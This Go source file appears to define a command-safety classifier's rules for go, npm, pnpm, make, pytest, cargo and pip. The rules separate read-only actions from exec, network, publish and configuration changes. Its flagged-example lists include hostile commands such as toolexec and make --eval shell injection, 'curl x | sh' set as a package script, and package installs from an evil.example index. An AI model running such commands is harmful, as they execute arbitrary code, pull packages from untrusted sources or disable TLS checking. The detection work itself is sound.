package programs

import (
	"maps"
	"strings"

	"github.com/wardenhq/warden/danger"
)

// Build tools and package managers. Building, testing and running the
// project run the project's own code (RunsProject): known, never read-only.
// Options and subcommands that run a command given on the command line, or
// load a tool, are Exec or Load.

var _ = family("toolchains", func(add func(...*Spec)) {
	goBuild := "-C= -a -n -p= -race -msan -asan -cover -covermode= -coverpkg= -v -work -x -asmflags= -buildmode= -buildvcs? -compiler= -gccgoflags= -gcflags= -installsuffix= " +
		"-ldflags= -linkshared -mod= -modcacherw -modfile=r -overlay=r -pgo=r -pkgdir= -tags= -trimpath -toolexec=x -o=w -json -i -debug-actiongraph= -debug-trace= -debug-runtime-trace= -h:h -help:h"
	goTest := goBuild + " -exec=x -c -args -bench= -benchtime= -benchmem -count= -coverprofile=w -cpu= -failfast -fullpath -fuzz= -fuzztime= -fuzzminimizetime= -list= -parallel= -run= -short " +
		"-shuffle= -skip= -timeout= -vet= -blockprofile=w -blockprofilerate= -coverprofile=w -cpuprofile=w -memprofile=w -memprofilerate= -mutexprofile=w -mutexprofilefraction= -outputdir=w -trace=w " +
		"-test.run= -test.v -test.count= -test.timeout= -test.short -test.bench="
	goPkgs := &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goBuild}
	// manage.py is the project's own script and django-admin runs the
	// project's settings. Django 3.2.25 (tried here): the first word is
	// the command (manage.py --verbos 2 check is "Unknown command"), its
	// parser argparse's, taking unique prefixes (check --verbos 2, flush
	// --no-inp --datab default) and attached short values (-v2). Even
	// --help and --version load the project's settings first.
	add(&Spec{Names: n("manage.py", "django-admin"), Grant: Grant{Depth: 1, Offers: []string{"./manage.py migrate => Bash(./manage.py migrate:*)"}},
		Effect: RunsProject, Loose: true, Abbrev: true, Permute: true, Operands: "-*",
		Options: "--settings= --pythonpath= --traceback --no-color --force-color -v|--verbosity= --skip-checks -h|--help --version --noinput|--no-input --database=",
		Flagged: []string{"./manage.py migrate", "python manage.py runserver", "django-admin flush --noinput", "./manage.py --help", "manage.py check --verbos 2"}})
	add(&Spec{
		Names: n("go"), Grant: Grant{Depth: 1, Deeper: "mod tool work", ExactSubs: "run", Offers: []string{"go build x => Bash(go build:*)", "go mod dev --x => Bash(go mod dev:*)", "go run x => Bash(go run x)"}}, LongDash: true, Options: "-C= -h:h -help:h --help:h -version:h",
		ReadOnly: []string{"go version", "go env GOPATH", "go list ./...", "go doc fmt.Println", "go list -m all", "go list -json ./...", "go help build", "go vet ./..."},
		Flagged: []string{"go list -toolexec='sh -c id' ./...", "go list -export -toolexec=./x.sh ./...", "go build -toolexec=./x.sh ./...", "go test -exec='sh -c id' ./...",
			"go run main.go", "go generate ./...", "go vet -vettool=./x ./...", "go env -w GOFLAGS=-toolexec=./x", "go tool x"},
		Subcommands: subs(
			"version", &Spec{LongDash: true, Options: "-m -v -json", Operands: "r*"},
			"env", &Spec{LongDash: true, Options: "-json -changed -u:c -w:c", Operands: "-*"},
			// -export and -compiled build the packages (cgo runs the C toolchain);
			// -u asks the module proxy for updates.
			"list", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -m -f= -e -deps -export:p -find -test -compiled:p -retracted:n -reuse= -u:n -versions:n",
				ReadOnly: []string{"go list -m all", "go list -f {{.Dir}} ./..."}, Flagged: []string{"go list -export ./...", "go list -m -u all"}},
			// -http downloads and runs a documentation server (pkgsite).
			"doc", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: "-all -c -cmd -short -src -u -http=n -h:h -help:h",
				ReadOnly: []string{"go doc fmt.Println"}, Flagged: []string{"go doc -http=:6060 net/http"}},
			"help", &Spec{Operands: "-*"},
			"vet", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -vettool=x -json -c= -all -asmdecl -assign -atomic -bools -buildtag -cgocall -composites -copylocks -errorsas -httpresponse -loopclosure -lostcancel -nilfunc -printf -shift -stdmethods -structtag -tests -unmarshal -unreachable -unsafeptr -unusedresult"},
			"build", goPkgs, "install", goPkgs,
			"test", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goTest, Loose: true},
			"run", &Spec{LongDash: true, Operands: "x*", Effect: RunsProject, Options: goBuild + " -exec=x"},
			"generate", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: Exec, Options: goBuild + " -run= -skip="},
			"tool", &Spec{LongDash: true, Operands: "x*", Options: "-n -modfile=r"},
			// mod edit -json and -print print go.mod; the other
			// subcommands may download modules.
			"mod", &Spec{Options: "-h:h", OtherSubcommand: Network, Subcommands: subs(
				"edit", &Spec{Effect: Write, ReadWith: "-json -print", LongDash: true, Permute: true, Operands: "r?",
					Options: "-fmt -module= -go= -toolchain= -require= -droprequire= -exclude= -dropexclude= -replace= -dropreplace= -retract= -dropretract= -godebug= -dropgodebug= -tool= -droptool= -ignore= -dropignore= -json -print -h:h"}),
				ReadOnly: []string{"go mod edit -json", "go mod edit -print"}, Flagged: []string{"go mod edit -require=example.com/x@v1", "go mod tidy", "go mod download"}},
			"get", &Spec{Effect: Network, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
			// -n prints the gofmt command it would run.
			"fmt", &Spec{Effect: Write, ReadWith: "-n", LongDash: true, Permute: true, Operands: "-*", Options: "-n -x -mod=",
				ReadOnly: []string{"go fmt -n ./..."}, Flagged: []string{"go fmt ./..."}},
			"clean", &Spec{Effect: Delete, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
			"work", &Spec{Effect: Write, Operands: "-*", Loose: true, Options: "-h:h"},
		),
	})

	npmRun := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--script-shell=x -h:h --help:h"}
	npmRunList := &Spec{Effect: RunsProject, EffectWithOperands: true, Permute: true, Operands: "-*", Loose: true, Options: npmRun.Options + " --json --parseable -w= --workspace= --workspaces --if-present",
		ReadOnly: []string{"npm run", "npm run --json"}, Flagged: []string{"npm run build", "npm run --script-shell=./x.sh build", "npm run-script test"}}
	npmNet := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--registry=n -h:h --help:h"}
	// npm exec runs a package's binary, or with -c a shell command.
	npmExec := &Spec{Effect: Exec, Command: true, Lang: LangShell, Options: "--package= -p= -c=k --call=k --yes -y --no --workspace= -w= --workspaces --include-workspace-root -h:h --help:h"}
	npmRead := &Spec{Permute: true, Operands: "-*", Options: "--json --long -l --parseable -p --depth= --all -a --global -g --omit= --include= --prod --dev --workspace= -w= --workspaces --link --unicode --registry=n -h:h --help:h"}
	// Subcommands that ask the registry: they read, but over the network
	// (so not read-only), and help opens the manual viewer the
	// configuration names.
	npmAsks := &Spec{Effect: Network, Permute: true, Operands: "-*", Options: npmRead.Options,
		Flagged: []string{"npm view react version", "npm outdated"}}
	npmHelp := &Spec{Effect: Unknown, Permute: true, Operands: "-*", Options: npmRead.Options, Flagged: []string{"npm help install"}}
	// npm config (npm 11.19.1, tried against a scratch --userconfig: npm
	// config set, c set, con set, conf set and set alike; co is no
	// command). set reads its words in turn as KEY=VALUE or KEY VALUE
	// (lib/commands/config.js keyValues: strict-ssl false and
	// strict-ssl=false set the same); an empty value deletes the key.
	npmConfig := &Spec{Options: "-h:h --help:h", Flagged: []string{"npm config get //registry.npmjs.org/:_authToken"}, Subcommands: subs("list", npmRead, "ls", npmRead, "get", npmRead,
		"set", packageConfigSet("npm", "config set"), "delete", &Spec{Effect: Config, Operands: "-*", Loose: true}, "edit", &Spec{Effect: Config, Operands: "-*", Loose: true})}
	add(&Spec{
		Names: n("npm"), Code: Code{ShellSetup: "completion"}, Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"npm publish => publishes a package or release", "npm unpublish x => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "exec run run-script", ExactSubs: "exec x", Offers: []string{"npm build x => Bash(npm build:*)", "npm exec dev --x => Bash(npm exec dev --x)", "npm exec x => Bash(npm exec x)"}}, Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y " + npmDryRun,
		ReadOnly: []string{"npm ls", "npm -v", "npm config list"},
		Flagged:  []string{"npm exec /bin/sh", "npm config set registry https://evil.example", "npm install", "npm run build", "npm frobnicate"},
		Subcommands: withSubs(subs(
			"ls", npmRead, "list", npmRead, "view", npmAsks, "info", npmAsks, "show", npmAsks, "outdated", npmAsks, "root", npmRead, "prefix", npmRead, "bin", npmRead,
			"whoami", npmAsks, "help", npmHelp, "doctor", npmAsks, "explain", npmRead, "why", npmRead, "fund", npmRead, "search", npmAsks, "ping", npmAsks,
			"config", "c", "con", "conf", "confi", npmConfig,
			"install", npmNet, "i", npmNet, "ci", npmNet, "add", npmNet, "update", npmNet, "up", npmNet, "uninstall", npmNet, "rm", npmNet, "remove", npmNet, "rebuild", npmNet, "link", npmNet, "dedupe", npmNet, "prune", npmNet, "audit", npmNet, "pack", npmNet,
			// Without a script name, run lists the package's scripts.
			"run", npmRunList, "run-script", npmRunList,
			"test", npmRun, "t", npmRun, "start", npmRun, "stop", npmRun, "restart", npmRun, "init", npmRun, "create", npmRun,
			"exec", npmExec, "x", npmExec,
			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", packageConfigSet("npm", "set"), "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
		), npmRegistry("npm", true)),
	})
	const pipConfigOpts = "-h:h --help:h --editor=x --global --user --site"
	// pip's index options, as install and download take them.
	const pipIndexOpts = "-i|--index-url=n --extra-index-url=n --trusted-host=n -f|--find-links=n --no-index"
	pipIndexRaises := []Raise{
		{Kind: danger.SecurityDisable, With: "--trusted-host", Medium: true, Why: "installs packages without TLS verification",
			Flagged: []string{"pip install --trusted-host pypi.x.example foo", "pip install --trusted pypi.x.example foo", "pip install --trusted-host=pypi.x.example foo", "pip3 download --trusted-h x foo",
				"pip --trusted-host pypi.x.example install foo", "pip --trusted=pypi.x.example install foo", "pip -q --trusted-host x install foo", "/usr/bin/pip3 install foo --trusted-host x",
				"sudo pip install --trusted-host x foo", "env pip install --trusted-host x foo", "command pip download --trusted-host=x foo"},
			Passes: []string{"pip install foo", "pip install --index-url https://pypi.x.example/simple foo"}},
		{Kind: danger.RemoteExec, With: "--index-url=http://* --extra-index-url=http://* --find-links=http://*", Medium: true, Why: "installs a package over plain HTTP",
			Flagged: []string{"pip install --index-url http://x.example/simple foo", "pip install -ihttp://x.example/simple foo", "pip install --index-url=http://x.example/simple foo",
				"pip install --extra-index-url=http://x.example/simple foo", "pip install --extra http://x.example/simple foo", "pip install -f http://x.example/wheels foo"},
			Passes: []string{"pip install -i https://x.example/simple foo", "pip install --find-links ./wheels foo"}},
	}
	pipConfigSet := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
		Raises: []Raise{{Kind: danger.SecurityDisable, Operand: "*trusted-host* *cert*", Last: true, Why: "turns off TLS checking for pip",
			Flagged: []string{"pip config set global.trusted-host pypi.x.example", "pip config set --user global.cert /tmp/ca.pem", "pip3 config --user set install.trusted-host x", "sudo pip config set global.trusted-host x"},
			Passes:  []string{"pip config set global.timeout 60", "pip config list", "pip config get global.trusted-host"}},
			{Kind: danger.SystemConfig, Operand: "*index-url*", Why: "redirects the Python package index",
				Flagged: []string{"pip config set global.index-url https://pypi.x.example/simple", "pip config set global.extra-index-url https://x.example", "/usr/bin/pip config set global.index-url x"},
				Passes:  []string{"pip config get global.index-url", "pip install --index-url https://x.example/simple x"}},
			{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
				Flagged: []string{"pip config set global.timeout 60", "pip config --user set global.timeout 60"}, Passes: []string{"pip config list", "pip config get global.timeout", "pip config set --help"}}}}
	pipConfigEdit := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
		Raises: []Raise{{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
			Flagged: []string{"pip config edit", "pip config --user edit", "pip3 config edit --global"}, Passes: []string{"pip config list", "pip config edit --help"}}}}
	pipConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts, OtherSubcommand: Config,
		Subcommands: subs("set", pipConfigSet, "edit", pipConfigEdit)}
	// cargo 1.95.0 (clap, tried): publish -n|--dry-run is a dry run;
	// --dry-run=false and --dry are refused. yank (--undo too) and owner
	// (-a|--add, -r|--remove, -l|--list) have no dry run: they change the
	// crate's listing or its owners on the registry.
	cargoPublish := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-n|--dry-run -h|--help:h",
		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo publish changes a published crate", Unless: "--dry-run",
			Flagged: []string{"cargo publish", "cargo publish --allow-dirty", "cargo -v publish --registry r", "/usr/bin/cargo publish", "env cargo publish", "command cargo publish"},
			Passes:  []string{"cargo publish -n", "cargo publish --dry-run", "cargo publish -n --allow-dirty", "cargo -v publish --dry-run", "cargo publish --help"}}}}
	cargoYank := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-h|--help:h",
		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo yank changes a published crate",
			Flagged: []string{"cargo yank --version 1.0.0", "cargo yank x@1.0.0", "cargo yank --version 1.0.0 --undo"}, Passes: []string{"cargo yank --help"}}}}
	cargoOwner := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-h|--help:h -a|--add= -r|--remove= -l|--list",
		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo owner changes who controls a published crate",
			Flagged: []string{"cargo owner --add bob x", "cargo owner -abob x", "cargo owner --remove=bob x"}, Passes: []string{"cargo owner --help", "cargo tree"}}}}
	add(
		&Spec{Names: n("make", "gmake"), Grant: Grant{ExactWith: "-f* --file* --makefile* --eval* -E* *=* --justfile", Depth: 1, Offers: []string{"make build x => Bash(make build:*)", "make -f x => Bash(make -f x)"}}, Effect: RunsProject, Lang: LangMake, Permute: true, Abbrev: true, Operands: "-*",
			// --eval and the makefile run any command. GNU make 4.3 (make
			// --help, tried): getopt_long, so a unique prefix is the option
			// (make --dry, --ev=X: seen), and each option's spellings are one.
			Options: "-b -m -B|--always-make -C|--directory= -d --debug? -e|--environment-overrides -E|--eval=k -f|--file|--makefile= -i|--ignore-errors -I|--include-dir= -j|--jobs? " +
				"-k|--keep-going -l|--load-average|--max-load? -L|--check-symlink-times -n|--just-print|--dry-run|--recon -o|--old-file|--assume-old= -O|--output-sync? -p|--print-data-base " +
				"-q|--question -r|--no-builtin-rules -R|--no-builtin-variables -s|--silent|--quiet --no-silent -S|--no-keep-going|--stop -t|--touch --trace -v|--version:h -w|--print-directory " +
				"--no-print-directory -W|--what-if|--new-file|--assume-new= --warn-undefined-variables --shuffle? -h|--help:h",
			Flagged: []string{"make", "make test", "make --eval='$(shell sh -c id)' .", "make -s --eval='$(file >/tmp/x,DATA)' .", "make --ev='$(shell sh -c id)' .", "make --makef=evil.mk"}},
		&Spec{Names: n("pytest", "py.test"), Effect: RunsProject, Permute: true, Operands: "-*", Loose: true,
			// -p loads a plugin module; --rootdir and ini files may
			// name more.
			Options: "-p=l -c=r --confcutdir= --override-ini=u -o=u --pyargs -h --help:h --version:h -V:h",
			Flagged: []string{"pytest", "pytest -p evilplugin", "pytest -x tests/"}},
		&Spec{Names: n("cargo"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"cargo publish => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "run", ExactSubs: "install", Offers: []string{"cargo build x => Bash(cargo build:*)", "cargo run dev --x => Bash(cargo run dev:*)", "cargo install x => Bash(cargo install x)"}}, Options: "-V:h --version:h -h:h --help:h --list -v -vv -q --quiet --color= -C= --locked --offline --frozen --config=u -Z=u",
			Subcommands: subs("build", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "b", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "check", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"test", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "t", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "run", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"r", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "bench", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "clippy", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"doc", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "fmt", &Spec{Effect: Write, ReadWith: "--check", Permute: true, Operands: "-*", Loose: true,
					Options:  "--check --all -p= --package= --manifest-path=r --message-format= -v --verbose -q --quiet -h:h --help:h",
					ReadOnly: []string{"cargo fmt --check", "cargo fmt --all --check"}, Flagged: []string{"cargo fmt", "cargo fmt --all"}},
				"clean", &Spec{Effect: Delete, Operands: "-*", Loose: true},
				"fetch", &Spec{Effect: Network, Operands: "-*", Loose: true}, "update", &Spec{Effect: Network, Operands: "-*", Loose: true}, "add", &Spec{Effect: Network, Operands: "-*", Loose: true},
				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "publish", cargoPublish, "yank", cargoYank, "owner", cargoOwner,
				"tree", &Spec{Permute: true, Operands: "-*", Loose: false, Options: "-p= --package= -i= --invert= -e= --edges= --depth= --prefix= --no-dedupe -d --duplicates --charset= -f= --format= --all-features --no-default-features -F= --features= --target= --workspace --exclude= -h:h --help:h"},
				"metadata", &Spec{Permute: true, Operands: "", Options: "--format-version= --no-deps --all-features --features= --no-default-features --filter-platform= --manifest-path=r -h:h --help:h"}),
			Flagged: []string{"cargo build", "cargo --config 'build.rustc-wrapper=\"sh\"' build"}},
		// pip config set NAME VALUE and pip config edit change pip's
		// configuration file; what the setting is decides how
		// dangerous: trusted-host or cert turn TLS checking off (and
		// nothing further is judged), index-url moves the package index.
		pipGeneral(&Spec{Names: n("pip", "pip3"), Code: Code{ShellSetup: "completion", Versioned: true}, Grant: Grant{Depth: 1, ExactSubs: "install", Offers: []string{"pip build x => Bash(pip build:*)", "pip install x => Bash(pip install x)"}}, Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --isolated --python=x --require-virtualenv --no-input --disable-pip-version-check --no-color",
			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o:n --outdated:n -u:n --uptodate:n -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
				// pip 23.2 (optparse, tried): a unique prefix of a long option is
				// the option (pip list --form json, --trusted-h x) and a short
				// one's value may be attached (-ihttp://…): the dangers of
				// the options are the entry's, in every spelling.
				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: pipIndexOpts + " --break-system-packages", Raises: pipIndexRaises},
				"download", &Spec{Effect: Network, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: pipIndexOpts, Raises: pipIndexRaises},
				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", pipConfig, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
			ReadOnly: []string{"pip list", "pip show requests", "pip freeze", "pip --no-input list", "pip list --disable-pip-version-check"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg", "pip list --log /tmp/pip.log"}}),
	)
})

// npmDryRun is npm's dry-run switch, a Boolean of its configuration (npm
// 11.19.1, tried against an unreachable registry in a scratch package):
// --dry-run, =true, "--dry-run true" and any other attached value are a
// dry run; --dry-run=false, "--dry-run false" and --no-dry-run are not,
// and the last given wins (--dry-run --no-dry-run publishes). It may
// stand before the command too (npm --dry-run publish). nopt expands a
// unique prefix, with a warning that the next major version will not:
// --dr, --dry, --dry-r and --dry-ru are --dry-run (npm publish --dry ran
// as a dry run: "(dry-run)"), --no-dr … --no-dry-ru its negation, and
// --dry=false, "--dry false" are not a dry run. --d is no prefix of it
// (npm publish --d published: -d is --loglevel info), -n nothing of the
// kind. A dry run still asks (it talks to the registry); it is only not
// a publish. pnpm's switch (pnpmDryRun) is taken by its whole name.
const npmDryRun = "--dry-run|--dry-ru|--dry-r|--dry|--dr?b --no-dry-run|--no-dry-ru|--no-dry-r|--no-dry|--no-dr"

const pnpmDryRun = "--dry-run?b --no-dry-run"

// npmRegistry are the npm commands that change what the registry serves,
// by the names npm takes for them (lib/utils/cmd-list.js: every unique
// prefix of a command or alias, npm pub, npm unp, npm own); pnpm hands
// the same commands to npm. publish, unpublish, deprecate and undeprecate
// honour --dry-run (their static params list it); dist-tag, owner and
// access do not: they change the package whatever it says. pkg and
// set-script (npm 7-8) rewrite package.json, whose lifecycle scripts the
// shell package's publish check reads.
func npmRegistry(prog string, prefixes bool) map[string]*Spec {
	changes := func(why, unless string, flagged, passes []string) *Spec {
		opts := "-h:h --help:h --registry=n --otp= -w|--workspace= --workspaces --include-workspace-root -f|--force --tag= --access= --provenance"
		if unless != "" && prefixes {
			opts += " " + npmDryRun
		} else if unless != "" {
			opts += " " + pnpmDryRun
		}
		return &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: opts,
			Raises: []Raise{{Kind: danger.PublishDeploy, Why: why, Unless: unless, Flagged: flagged, Passes: passes}}}
	}
	lists := &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: "-h:h --help:h --registry=n --json -w|--workspace= --workspaces"}
	p := prog + " "
	// alias is the name given only where npm takes prefixes and aliases.
	alias := func(npm, other string) string {
		if prefixes {
			return p + npm
		}
		return p + other
	}
	publish := changes("{prog} publish releases the package publicly", "--dry-run",
		[]string{p + "publish", p + "publish --access public", p + "publish --dry-run=false", p + "publish --dry-run false", p + "publish --dry-run --no-dry-run",
			alias("publish --dry=false", "publish --dry-run=false"), alias("publish --dry false", "publish --dry-run false"), alias("publish --dry --no-dr", "publish --dry-run --no-dry-run"), alias("publish --no-dry", "publish --no-dry-run"), p + "publish --d",
			p + "publish --tag next ./pkg", "/usr/local/bin/" + p + "publish", "command " + p + "publish", "env " + p + "publish", "sudo " + p + "publish",
			"npx --yes " + p + "publish", "nice " + p + "publish", "'" + prog + "' publish", "env -i " + p + "publish --dry-run=false"},
		[]string{p + "publish --dry-run", p + "publish --dry-run=true", p + "publish --dry-run true", p + "publish --no-dry-run --dry-run", p + "--dry-run publish", alias("publish --dry", "publish --dry-run"),
			alias("publish --dr=true", "publish --dry-run=true"), alias("publish --dry-r", "publish --dry-run"), alias("--dry publish", "--dry-run publish"), alias("publish --no-dr --dry", "publish --dry-run"),
			p + "publish --tag next --dry-run", "npx --yes " + p + "publish --dry-run", "sudo " + p + "publish --dry-run", p + "pack", p + "publish --help"})
	unpublish := changes("{prog} unpublish removes a published package", "--dry-run",
		[]string{p + "unpublish x@1.0.0", p + "unpublish x --force", p + "unpublish x@1.0.0 --dry-run=false"},
		[]string{p + "unpublish x@1.0.0 --dry-run", p + "--dry-run unpublish x@1.0.0"})
	deprecate := changes("{prog} deprecate changes a published package", "--dry-run",
		[]string{p + "deprecate x@1 'use y'", p + "deprecate x@1 'use y' --no-dry-run"}, []string{p + "deprecate x@1 'use y' --dry-run"})
	undeprecate := changes("{prog} undeprecate changes a published package", "--dry-run",
		[]string{p + "undeprecate x@1"}, []string{p + "undeprecate x@1 --dry-run"})
	tagChange := changes("{prog} dist-tag changes which version a published tag names", "",
		[]string{p + "dist-tag add x@1.0.0 latest", p + "dist-tag rm x next", p + "dist-tag del x next", p + "dist-tag s x@1.0.0 latest", alias("dist-tags add x@1.0.0 latest", "dist-tag add x@1.0.0 next"), p + "dist-tag add x@1.0.0 latest --dry-run"},
		[]string{p + "dist-tag ls x", p + "dist-tag x"})
	ownerChange := changes("{prog} owner changes who controls a published package", "",
		[]string{p + "owner add bob x", p + "owner rm bob x", p + "owner remove bob x", alias("author add bob x", "owner add bob @s/x"), alias("own add bob x", "owner add bob x --otp 1"), p + "owner add bob x --dry-run"},
		[]string{p + "owner ls x", p + "owner x"})
	accessChange := changes("{prog} access changes who controls a published package", "",
		[]string{p + "access set status=public x", p + "access grant read-write org:team x", p + "access revoke org:team x", p + "access public @s/x", alias("acc set mfa=none x", "access set mfa=none x")},
		[]string{p + "access list packages", p + "access get status x", p + "access ls collaborators x"})
	// The actions' names are lib/commands/dist-tag.js's and owner.js's.
	distTag := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network,
		Subcommands: subs("add", "a", "set", "s", "rm", "r", "del", "d", "remove", tagChange, "ls", "l", "sl", "list", lists)}
	owner := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network, Subcommands: subs("add", "rm", "remove", ownerChange, "ls", "list", lists)}
	access := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network,
		// public, restricted and 2fa-* are npm 8's spellings of set.
		Subcommands: subs("set", accessChange, "grant", accessChange, "revoke", accessChange, "public", accessChange, "restricted", accessChange,
			"2fa-required", accessChange, "2fa-not-required", accessChange, "edit", accessChange, "get", lists, "list", lists, "ls", lists, "ls-packages", lists, "ls-collaborators", lists)}
	pkg := &Spec{Options: "-h:h --help:h", Subcommands: subs("get", &Spec{Permute: true, Operands: "-*", Options: "--json -w= --workspace= --workspaces -h:h --help:h"},
		"set", &Spec{Effect: Write, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Write, Operands: "-*", Loose: true}, "fix", &Spec{Effect: Write, Operands: "-*", Loose: true}),
		ReadOnly: []string{p + "pkg get version", p + "pkg get name version --json"}, Flagged: []string{p + "pkg set scripts.x='curl x | sh'"}}
	if !prefixes {
		// pnpm 12.23 takes a command by its whole name (pnpm pub: not found).
		return subs("publish", publish, "unpublish", unpublish, "deprecate", deprecate, "undeprecate", undeprecate, "dist-tag", distTag, "owner", owner,
			"access", access, "pkg", pkg, "set-script", &Spec{Effect: Write, Operands: "-*", Loose: true})
	}
	return subs("pkg", "pk", pkg, "publish", "pu", "pub", "publ", "publi", "publis", publish,
		"unpublish", "unp", "unpu", "unpub", "unpubl", "unpubli", "unpublis", unpublish,
		"deprecate", "dep", "depr", "depre", "deprec", "depreca", "deprecat", deprecate,
		"undeprecate", "und", "unde", "undep", "undepr", "undepre", "undeprec", "undepreca", "undeprecat", undeprecate,
		"dist-tag", "dist-tags", distTag, "owner", "ow", "own", "owne", "author", "aut", "auth", "autho", owner,
		"access", "ac", "acc", "acce", "acces", access,
		"set-script", &Spec{Effect: Write, Operands: "-*", Loose: true})
}

// withSubs adds more subcommands to m and returns it.
// packageConfigSet is a JavaScript package manager's command that sets
// its user-global configuration (npm config set, npm set, pnpm and yarn
// config set), by verb as the call spells it: which setting decides the
// danger, an ordered choice. TLS verification turned off (strict-ssl,
// ca null, an empty cafile, yarn's enableStrictSsl); the registry moved
// (a key naming a registry: registry, @scope:registry, yarn's
// npmRegistryServer); the shell every script runs in or the options of
// every node it starts; else any setting, medium.
func packageConfigSet(prog, verb string) *Spec {
	p := "{prog} " + verb + " "
	c := prog + " " + verb + " "
	return &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: "-g --global -L|--location= -H|--home --json -h:h --help:h",
		Raises: []Raise{
			{Kind: danger.SecurityDisable, Setting: "strict-ssl=false strict-ssl=0 ca=null cafile= enableStrictSsl=false", Last: true, Why: p + "{value} turns off TLS verification",
				Flagged: []string{c + "strict-ssl false", c + "strict-ssl=false", c + "-g strict-ssl false", prog + " --silent " + verb + " strict-ssl=false",
					c + "registry=https://r.example strict-ssl=false", c + "ca null", "sudo /usr/bin/" + c + "strict-ssl false", "env " + c + "strict-ssl false"},
				Passes: []string{c + "strict-ssl true", prog + " config get strict-ssl", c + "--help"}},
			{Kind: danger.SystemConfig, Setting: "*registry*=*", Last: true, Why: p + "{value} redirects the package registry",
				Flagged: []string{c + "registry https://r.example", c + "registry=https://r.example", c + "@acme:registry https://r.example", c + "fund false registry=https://r.example"},
				Passes:  []string{prog + " config get registry"}},
			{Kind: danger.RemoteExec, Setting: "script-shell=* shell=* node-options=*", Last: true, Why: p + "{value} changes what runs for every script",
				Flagged: []string{c + "script-shell /tmp/x.sh", c + "node-options='--require /tmp/x.js'", c + "shell=/tmp/x"}, Passes: []string{c + "fund false", prog + " config get shell"}},
			{Kind: danger.SystemConfig, Setting: "*=*", Medium: true, Why: p + "{value} changes user-global configuration",
				Flagged: []string{c + "fund false", c + "init-author-name=me"}, Passes: []string{prog + " config list", c + "--help"}},
		}}
}

// pipGeneralOpts are pip's general options (pip 23.2.1,
// cmdoptions.general_group, read and tried here): every command takes
// them, before it or after (pip --trusted x list, pip list --trusted-h
// x), by any unique prefix (optparse).
const pipGeneralOpts = "-h|--help:h --debug --isolated --require-virtualenv|--require-venv --python=x -v|--verbose -V|--version:h -q|--quiet --log|--log-file|--local-log=w " +
	"--no-input --keyring-provider= --proxy=n --retries= --timeout|--default-timeout= --exists-action= --trusted-host=n --cert=r --client-cert=r --cache-dir= --no-cache-dir " +
	"--disable-pip-version-check --no-color --no-python-version-warning --use-feature= --use-deprecated="

// pipGeneral declares pip's general options on the entry and every one of
// its commands, and on each that does not declare it already the danger
// of --trusted-host: pip then talks to the host without verifying TLS.
func pipGeneral(s *Spec) *Spec {
	seen := map[*Spec]bool{}
	var walk func(*Spec, string)
	walk = func(c *Spec, path string) {
		if seen[c] {
			return
		}
		seen[c] = true
		c.Options = pipGeneralOpts + " " + c.Options
		c.Abbrev = true
		trusted := false
		for _, r := range c.Raises {
